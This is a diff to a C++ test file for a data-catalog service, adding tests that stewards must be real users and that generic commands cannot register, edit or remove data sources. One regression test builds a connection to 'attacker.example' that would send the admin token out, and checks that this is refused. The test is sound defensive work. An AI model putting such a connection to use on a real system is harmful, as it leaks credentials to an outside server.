@@ -4,6 +4,7 @@
 
 #include "tests/catalog/test_helpers.hpp"
 
+#include "actors/catalog/accounts.hpp"
 #include "actors/catalog/commands.hpp"
 #include "actors/catalog/text.hpp"
 
@@ -112,8 +113,9 @@ BOOST_AUTO_TEST_CASE(register_invalid_identifiers) {
                "field 'name' is 'other'");
   expect_error(reg(table({{"parent", "urn:almanac:schema:s.q"}})), ec::invalid_argument,
                "field 'parent' is 'urn:almanac:schema:s.q'");
-  expect_error(reg({{"urn", "urn:almanac:source:x"}, {"kind", "source"},
-                    {"parent", "urn:almanac:source:s"}}),
+  expect_error(register_source({{"urn", "urn:almanac:source:x"}, {"kind", "source"},
+                                {"parent", "urn:almanac:source:s"}},
+                               "bob", *state),
                ec::invalid_argument, "field 'parent': a source has no parent");
   expect_error(reg(table({{"stewards", {"ok", "bad name"}}})), ec::invalid_argument,
                "field 'stewards[1]': invalid user name");
@@ -244,6 +246,24 @@ BOOST_AUTO_TEST_CASE(edit_errors) {
   BOOST_CHECK_EQUAL((**got)["version"], 1);
 }
 
+BOOST_AUTO_TEST_CASE(stewards_must_be_existing_users) {
+  expect_error(edit({{"stewards", {"nobody"}}}), ec::invalid_argument,
+               "field 'stewards[0]': no user 'nobody'");
+  expect_error(reg(table({{"stewards", {"nobody"}}})), ec::invalid_argument,
+               "field 'stewards[0]': no user 'nobody'");
+  commit(create_user({{"user", "vera"}, {"role", "viewer"}}, "root", *state));
+  expect_error(edit({{"stewards", {"vera", "nobody"}}}), ec::invalid_argument,
+               "field 'stewards[1]': no user 'nobody'");
+  auto ok = edit({{"stewards", {"vera"}}});
+  BOOST_REQUIRE_MESSAGE(ok, why(ok));
+  BOOST_CHECK_EQUAL(ok->events.size(), 1u);
+  auto fine = reg(table({{"stewards", {"vera"}}}));
+  BOOST_CHECK_MESSAGE(fine, why(fine));
+  // An empty list removes every steward.
+  auto none = edit({{"stewards", json::array()}});
+  BOOST_CHECK_MESSAGE(none, why(none));
+}
+
 BOOST_AUTO_TEST_CASE(remove_needs_cascade_for_children) {
   expect_error(remove_entity("urn:almanac:schema:s.p", std::nullopt, false, "root", *state),
                ec::conflict, "has 1 children (first: urn:almanac:table:s.p.t)");
@@ -271,9 +291,72 @@ BOOST_AUTO_TEST_CASE(remove_needs_cascade_for_children) {
   auto src = state->get("urn:almanac:source:s");
   BOOST_REQUIRE(src && *src);
   BOOST_CHECK_EQUAL((**src)["children"], json::array());
-  auto leaf = remove_entity("urn:almanac:source:s", std::nullopt, false, "root", *state);
+  auto leaf = remove_source("urn:almanac:source:s", "root", *state);
   BOOST_REQUIRE_MESSAGE(leaf, why(leaf));
   BOOST_CHECK_EQUAL(leaf->events.size(), 1u);
+}
+
+// Issue 10: a steward could register a source whose connection sends the
+// admin token (password_env) or another source's secret (password_ref) to
+// their own server, and remove admin-registered sources. Only the *_source
+// commands (the sources API) may do either.
+BOOST_AUTO_TEST_CASE(generic_commands_never_touch_sources) {
+  json evil{{"kind", "postgresql"}, {"dsn", "host=attacker.example dbname=x"},
+            {"password_env", "ALMANAC_ADMIN_TOKEN"}};
+  expect_error(reg({{"urn", "urn:almanac:source:evil"}, {"kind", "source"},
+                    {"attributes", {{"connection", evil}}}}),
+               ec::forbidden, "POST /api/v1/sources");
+  expect_error(reg({{"urn", "urn:almanac:source:plain"}, {"kind", "source"}}),
+               ec::forbidden, "only through the sources API");
+  expect_error(reg({{"urn", "urn:almanac:source:k"}, {"kind", "table"}}), ec::forbidden,
+               "POST /api/v1/sources");
+  expect_error(reg(table({{"attributes", {{"connection", evil}}}})), ec::forbidden,
+               "attributes.connection");
+  expect_error(remove_entity("urn:almanac:source:s", std::nullopt, true, "bob", *state),
+               ec::forbidden, "DELETE /api/v1/sources/{name}");
+  expect_error(replace_attributes("urn:almanac:source:s", {{"connection", evil}}, "bob",
+                                  *state),
+               ec::forbidden, "PATCH /api/v1/sources/{name}");
+  expect_error(replace_attributes("urn:almanac:table:s.p.t", {{"connection", evil}}, "bob",
+                                  *state),
+               ec::forbidden, "attributes.connection");
+  // What they are for still works: curating a source, attributes of tables.
+  auto edited = edit({{"description", "ours"}}, std::nullopt, "urn:almanac:source:s");
+  BOOST_CHECK_MESSAGE(edited, why(edited));
+  auto attrs = replace_attributes("urn:almanac:table:s.p.t", {{"row_count", 3}}, "bob", *state);
+  BOOST_REQUIRE_MESSAGE(attrs, why(attrs));
+  BOOST_CHECK_EQUAL(attrs->events.size(), 1u);
+}
+
+BOOST_AUTO_TEST_CASE(source_commands_configure_and_remove_sources) {
+  json conn{{"kind", "sqlite"}, {"path", "/srv/shop.db"}};
+  auto reg_src = register_source({{"urn", "urn:almanac:source:shop"}, {"kind", "source"},
+                                  {"attributes", {{"connection", conn}}}},
+                                 "admin", *state);
+  BOOST_REQUIRE_MESSAGE(reg_src, why(reg_src));
+  commit(reg_src);
+  expect_error(register_source(table(), "admin", *state), ec::invalid_argument,
+               "must be 'source'");
+  conn["path"] = "/srv/shop2.db";
+  auto changed = replace_source_attributes("urn:almanac:source:shop",
+                                           {{"connection", conn}}, "admin", *state);
+  BOOST_REQUIRE_MESSAGE(changed, why(changed));
+  BOOST_CHECK_EQUAL(changed->reply["changed"], true);
+  commit(changed);
+  auto same = replace_source_attributes("urn:almanac:source:shop",
+                                        {{"connection", conn}}, "admin", *state);
+  BOOST_REQUIRE_MESSAGE(same, why(same));
+  BOOST_CHECK(same->events.empty());
+  expect_error(replace_source_attributes("urn:almanac:table:s.p.t", json::object(), "admin",
+                                         *state),
+               ec::invalid_argument, "is not a source");
+  // The whole tree goes, deepest first, the source last.
+  auto removed = remove_source("urn:almanac:source:s", "admin", *state);
+  BOOST_REQUIRE_MESSAGE(removed, why(removed));
+  BOOST_CHECK_EQUAL(removed->events.size(), 4u);
+  BOOST_CHECK_EQUAL(removed->events.back().key, "urn:almanac:source:s");
+  expect_error(remove_source("urn:almanac:table:s.p.t", "admin", *state),
+               ec::invalid_argument, "is not a source");
 }
 
 BOOST_AUTO_TEST_SUITE_END()
